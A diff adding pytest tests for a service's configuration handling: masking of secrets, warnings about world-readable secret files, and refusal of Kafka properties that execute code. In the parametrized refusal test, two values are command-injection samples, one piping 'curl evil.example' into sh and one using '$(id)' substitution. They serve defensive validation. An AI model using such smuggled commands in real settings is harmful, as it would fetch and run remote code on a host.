@@ -1,5 +1,7 @@
 """The service's configuration: secrets are masked, and may stand in files of their own."""
 
+import os
+from collections.abc import Iterator
 from pathlib import Path
 
 import pytest
@@ -97,3 +99,119 @@ def test_a_secret_and_its_file_at_once_are_refused(config: Writer) -> None:
 def test_a_wrong_secret_is_not_repeated(config: Writer) -> None:
     (problem,) = config.problems('[[sinks]]\nname = "p"\ntype = "webhook"\nurl = "hunter2"\n')
     assert problem == "kpe.toml: sinks.p.url: *** is not an http:// or https:// URL"
+
+
+class TestFilesThatEverybodyReads:
+    """Directories of tests are their user's own, so they are opened first."""
+
+    @pytest.fixture
+    def open_to_all(self, tmp_path: Path) -> Iterator[Path]:
+        shut = [each for each in tmp_path.parents if each.stat().st_uid == os.getuid()]
+        before = {each: each.stat().st_mode for each in [tmp_path, *shut]}
+        for each, mode in before.items():
+            each.chmod(mode | 0o111)
+        yield tmp_path
+        for each, mode in before.items():
+            each.chmod(mode)
+
+    def exposed(self, config: Writer, text: str, mode: int, *names: str) -> list[str]:
+        directory = config.path.parent
+        for name in names:
+            (directory / name).write_text("https://pager.example/s3cret")
+            (directory / name).chmod(mode)
+        return [Path(path).name for path in config.load(text.replace("DIR", str(directory))).exposed]
+
+    @pytest.mark.parametrize(("mode", "told"), [(0o644, True), (0o604, True), (0o640, False), (0o400, False)])
+    def test_a_secrets_file_is_told_of(
+        self, config: Writer, open_to_all: Path, mode: int, told: bool
+    ) -> None:
+        text = '[kafka.properties]\n"sasl.password_file" = "DIR/password"\n"ssl.key.location" = "DIR/key"\n'
+        text += '[http]\ntls_cert = "DIR/cert"\ntls_key = "DIR/tls"\n'
+        files = ["password", "key", "tls"]
+        assert self.exposed(config, text, mode, *files, "cert") == (files if told else [])
+
+    def test_a_key_beside_its_certificate_is(self, config: Writer, open_to_all: Path) -> None:
+        assert self.exposed(config, '[http]\ntls_cert = "DIR/cert"\n', 0o644, "cert") == ["cert"]
+
+    def test_so_is_the_configuration_itself_if_it_holds_one(self, config: Writer, open_to_all: Path) -> None:
+        config.path.write_text("")
+        config.path.chmod(0o644)
+        assert self.exposed(config, '[kafka.properties]\n"sasl.password" = "x"\n', 0o600) == ["kpe.toml"]
+        assert self.exposed(config, '[kafka.properties]\n"sasl.username" = "x"\n', 0o600) == []
+
+    def test_what_is_no_secret_is_not(self, config: Writer, open_to_all: Path) -> None:
+        text = '[[sinks]]\nname = "a"\ntype = "webhook"\nurl_file = "DIR/url"\ntemplate_file = "DIR/page"\n'
+        (open_to_all / "page").write_text("{}")
+        assert self.exposed(config, text, 0o600, "url") == []
+
+    def test_a_directory_that_is_shut_keeps_it(self, config: Writer, open_to_all: Path) -> None:
+        open_to_all.chmod(0o700)
+        assert self.exposed(config, '[http]\ntls_cert = "DIR/cert"\n', 0o644, "cert") == []
+
+
+def test_what_must_not_be_told_is_known(config: Writer, tmp_path: Path) -> None:
+    (tmp_path / "secrets").write_text("whsec_three\nwhsec_four\n")
+    found = config.load(
+        f'{WHOLE}[[sinks]]\nname = "b"\ntype = "webhook"\nurl = "https://b.example/x"\n'
+        f'secrets_file = "{tmp_path}/secrets"\n',
+        {"KPE_KAFKA__PROPERTIES__SASL_PASSWORD": "hunter2"},
+    )
+    assert found.secrets == {
+        "hunter2",
+        "https://pager.example/hook/s3cret",
+        "whsec_one",
+        "whsec_two",
+        "Bearer s3cret",
+        "https://b.example/x",
+        "whsec_three",
+        "whsec_four",
+    }
+    assert "hunter2" not in repr(found.values)
+
+
+REFUSED = "whoever sets this runs code in the service; set kafka.allow_code = true if that is meant"
+
+
+class TestPropertiesThatAreCode:
+    @pytest.mark.parametrize(
+        ("name", "value"),
+        [
+            ("plugin.library.paths", "monitoring-interceptor"),
+            ("sasl.kerberos.kinit.cmd", "kinit -R"),
+            ("ssl.engine.location", "/usr/lib/pkcs11.so"),
+            ("ssl.engine.id", "pkcs11"),
+            ("ssl.providers", "legacy"),
+            ("sasl.kerberos.principal", "kpe@EXAMPLE; curl evil.example | sh"),
+            ("sasl.kerberos.keytab", "/etc/kpe/$(id).keytab"),
+        ],
+    )
+    @pytest.mark.parametrize("section", ["kafka", "control"])
+    def test_they_are_refused_unless_somebody_says_so(
+        self, config: Writer, section: str, name: str, value: str
+    ) -> None:
+        text = f'[{section}.properties]\n"{name}" = "{value}"\n'
+        assert config.problems(text) == [f"kpe.toml: {section}.properties.{name}: {REFUSED}"]
+        allowed = config.load(f"[kafka]\nallow_code = true\n{text}")
+        assert getattr(allowed.settings, section).properties == {name: value}
+        assert config.load(text, {"KPE_KAFKA__ALLOW_CODE": "true"}).settings.kafka.allow_code
+        assert config.problems(text, {"KPE_KAFKA__ALLOW_CODE": "false"})
+
+    def test_they_are_refused_wherever_they_come_from(self, config: Writer) -> None:
+        environ = {"KPE_KAFKA__PROPERTIES__PLUGIN_LIBRARY_PATHS": "x"}
+        assert len(config.problems("", environ)) == 1
+        assert len(config.problems("", overrides={"kafka.properties.plugin.library.paths": "x"})) == 1
+        sink = '[[sinks]]\nname = "a"\ntype = "kafka"\nproperties = { "ssl.providers" = "x" }\n'
+        assert len(config.problems(sink)) == 1
+
+    @pytest.mark.parametrize(
+        ("name", "value"),
+        [
+            ("sasl.kerberos.principal", "kpe/host.example@EXAMPLE.ORG"),
+            ("sasl.kerberos.keytab", "/etc/security/kpe.keytab"),
+            ("sasl.kerberos.service.name", "kafka"),
+            ("ssl.key.location", "/etc/kpe/my key.pem"),
+        ],
+    )
+    def test_others_are_not(self, config: Writer, name: str, value: str) -> None:
+        found = config.load(f'[kafka.properties]\n"{name}" = "{value}"\n')
+        assert found.settings.kafka.properties == {name: value}
